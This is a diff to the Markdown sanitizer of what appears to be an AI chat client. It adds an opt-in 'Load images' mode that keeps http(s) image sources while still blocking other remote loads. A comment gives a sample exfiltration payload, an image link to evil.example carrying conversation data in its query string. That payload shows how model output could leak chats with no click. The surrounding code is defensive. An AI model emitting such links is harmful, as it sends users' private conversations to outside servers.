@@ -95,6 +95,13 @@ const FORBID_ATTR = ['style', 'srcset', 'formaction', 'autofocus'];
 
 let hooked = false;
 
+/**
+ * True only while renderMarkdown runs with `images: true` (the user clicked "Load images",
+ * or Settings say "always"): the sanitizer hook then keeps an `<img>`'s http(s) src.
+ * Rendering is synchronous, so no other render sees it.
+ */
+let keepImages = false;
+
 /** Marks links (and image-map areas) so the Markdown component can open them in the system browser. */
 function installHooks(): void {
   if (hooked) return;
@@ -130,13 +137,16 @@ const REMOTE = /^\s*(https?:|\/\/)/i;
  * a poster, a legacy background, an SVG image's href): model output and page text could
  * otherwise send what the conversation holds to any server with no click (an answer
  * ending in `![x](https://evil.example/?d=…)`). The URL is kept in data-blocked-src and,
- * for images, shown in the title; nothing is fetched. (A "Load images" choice comes with
- * the settings for it.)
+ * for images, shown in the title; nothing is fetched. Rendered with `images` (the user's
+ * "Load images" click, or Settings' "always"; issue 10, item 7), an `<img>` keeps an
+ * http(s) src (never a protocol-relative one), still with referrerpolicy="no-referrer";
+ * media, posters, backgrounds and SVG images stay blocked.
  */
 function blockRemoteLoads(node: Element): void {
   for (const attr of LOAD_ATTRS) {
     const v = node.getAttribute(attr);
     if (v === null || !REMOTE.test(v)) continue;
+    if (keepImages && node.nodeName === 'IMG' && attr === 'src' && /^\s*https?:\/\//i.test(v)) continue; // issue 10, item 7
     node.removeAttribute(attr);
     node.setAttribute('data-blocked-src', v);
     if (node.nodeName === 'IMG') {
@@ -169,9 +179,28 @@ function blockRemoteLoads(node: Element): void {
  * `<span class="md-escaped">[</span>`, so it never makes a chip (as in the engine's rule).
  * With `copyCode`, every code block gets a copy button (copy.addCodeCopyButtons), also
  * added after sanitizing; the Markdown component handles its clicks.
+ * With `images`, remote http(s) images are kept (see blockRemoteLoads); without it their
+ * URLs are in data-blocked-src (hasBlockedImages).
  */
-export function renderMarkdown(source: string, opts: { highlight?: boolean; cite?: CiteResolver; copyCode?: boolean } = {}): string {
+export function renderMarkdown(source: string, opts: { highlight?: boolean; cite?: CiteResolver; copyCode?: boolean; images?: boolean } = {}): string {
   installHooks();
+  keepImages = opts.images === true;
+  try {
+    return renderSanitized(source, opts);
+  } finally {
+    keepImages = false;
+  }
+}
+
+/**
+ * Reports whether rendered HTML (renderMarkdown's) has an image whose remote src was
+ * blocked, which is when the Markdown component offers "Load images".
+ */
+export function hasBlockedImages(html: string): boolean {
+  return /<img\b[^>]*\sdata-blocked-src=/i.test(html);
+}
+
+function renderSanitized(source: string, opts: { highlight?: boolean; cite?: CiteResolver; copyCode?: boolean }): string {
   const html = (opts.highlight === true ? markedHighlighted : marked).parse(source, { async: false });
   if (opts.cite === undefined && opts.copyCode !== true) return sanitize(html);
   const frag = DOMPurify.sanitize(html, { FORBID_TAGS, FORBID_ATTR, ALLOW_DATA_ATTR: false, RETURN_DOM_FRAGMENT: true });
